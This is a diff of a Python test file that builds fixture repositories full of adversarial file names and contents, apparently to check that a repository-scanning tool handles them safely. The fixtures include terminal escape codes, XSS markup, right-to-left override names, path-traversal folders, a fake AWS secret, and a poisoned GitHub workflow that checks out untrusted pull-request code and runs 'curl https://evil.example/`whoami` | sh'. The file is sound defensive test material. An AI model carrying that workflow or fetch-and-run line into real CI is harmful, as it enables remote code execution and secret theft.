@@ -11,12 +11,12 @@ from assay.testing.raw_objects import FILE, FOLDER, LINK, PROGRAM, RawRepository
 ESCAPE = b"\x1b[31mred\x1b[0m\x07"
 MARKUP = b"<script>alert(1)</script><img src=x onerror=alert(1)>"
 WORKFLOW = (
-    'name: "\\e[2J\\u202E<script>alert(2)</script>"\non: pull_request_target\njobs:\n'
-    '  "\\e]0;owned\\a":\n    runs-on: self-hosted\n    steps:\n'
-    '      - name: "`x` [link](https://evil.example) @everyone | #1"\n        uses: "evil/action@main"\n'
-    "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.event.pull_request.head.sha }}'}\n"
-    "      - run: curl https://evil.example/`whoami` | sh\n"
-).encode()
+    b'name: "\\e[2J\\u202E<script>alert(2)</script>"\non: pull_request_target\njobs:\n'
+    b'  "\\e]0;owned\\a":\n    runs-on: self-hosted\n    steps:\n'
+    b'      - name: "`x` [link](https://evil.example) @everyone | #1"\n        uses: "evil/action@main"\n'
+    b"      - uses: actions/checkout@v4\n        with: {ref: '${{ github.event.pull_request.head.sha }}'}\n"
+    b"      - run: curl https://evil.example/`whoami` | sh\n"
+)
 NAMES = (
     b"new\nline.md", b"back\\slash.md", b"tab\there.md", b"carriage\rreturn.md", ESCAPE + b".md", b"\x1b]0;title\x07.md", b"\x9b31m.md",
     "\u202egnp.exe.md".encode(), "\u200bzero.md".encode(), "\ufeffmark.md".encode(), b"caf\xe9.md", b"\xff\xfe.md", b"\xed\xa0\x80.md",
@@ -35,7 +35,12 @@ def odd(tmp_path: Path) -> RawRepository:
     blob, workflow = raw.blob(b"# Security\n\nReport to security@example.com.\n"), raw.blob(WORKFLOW)
     inner = raw.tree({b"passwd": (FILE, blob), b"config": (FILE, blob), b"HEAD": (FILE, blob)})
     workflows = raw.tree(
-        {b"ci.yml": (FILE, workflow), ESCAPE + b".yml": (FILE, workflow), b"caf\xe9.yml": (FILE, workflow), b"a b`|<b>.yml": (FILE, workflow)}
+        {
+            b"ci.yml": (FILE, workflow),
+            ESCAPE + b".yml": (FILE, workflow),
+            b"caf\xe9.yml": (FILE, workflow),
+            b"a b`|<b>.yml": (FILE, workflow),
+        }
     )
     odd_folder = raw.tree(
         {
@@ -44,9 +49,9 @@ def odd(tmp_path: Path) -> RawRepository:
             b".env": (FILE, raw.blob(b"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzzzzzzzz\n")),
         }
     )
-    entries = {name: (FILE, blob) for name in NAMES}
-    entries |= {name: (FOLDER, inner) for name in (b".git", b"..", b"folder\nline")}
-    entries |= {name: (FOLDER, odd_folder) for name in (ESCAPE, MARKUP.replace(b"/", b""), "右から左へ右から左へ右から左へ右から左へ".encode(), b"caf\xe9")}
+    entries = dict.fromkeys(NAMES, (FILE, blob))
+    entries |= dict.fromkeys((b".git", b"..", b"folder\nline"), (FOLDER, inner))
+    entries |= dict.fromkeys((ESCAPE, MARKUP.replace(b"/", b""), "右から左へ右から左へ右から左へ右から左へ".encode(), b"caf\xe9"), (FOLDER, odd_folder))
     entries[b".github"] = (FOLDER, raw.tree({b"workflows": (FOLDER, workflows)}))
     entries[b"run.sh"] = (PROGRAM, blob)
     raw.commit(raw.tree(entries))
@@ -138,10 +143,13 @@ def test_files_of_nothing_but_odd_bytes(confinement: Confinement, tmp_path: Path
         b"xml": b"<project><dependencies>x<dependency/><dependency><version>${a}</version></dependency></dependencies></project>",
     }  # fmt: skip
     folders = {
-        folder: (FOLDER, raw.tree({name: (FILE, raw.blob(data)) for name in names})) for folder, data in contents.items()
+        folder: (FOLDER, raw.tree({name: (FILE, raw.blob(data)) for name in names}))
+        for folder, data in contents.items()
     }
     workflows = {folder + b".yml": (FILE, raw.blob(data)) for folder, data in contents.items()}
-    github = raw.tree({b"workflows": (FOLDER, raw.tree(workflows)), b"dependabot.yml": (FILE, raw.blob(contents[b"yaml"]))})
+    github = raw.tree(
+        {b"workflows": (FOLDER, raw.tree(workflows)), b"dependabot.yml": (FILE, raw.blob(contents[b"yaml"]))}
+    )
     for number, data in enumerate(contents.values()):
         entries = {name: (FILE, raw.blob(data)) for name in names} | {b".github": (FOLDER, github)}
         raw.commit(raw.tree(entries | (folders if number == 0 else {})), branch=f"b{number}")
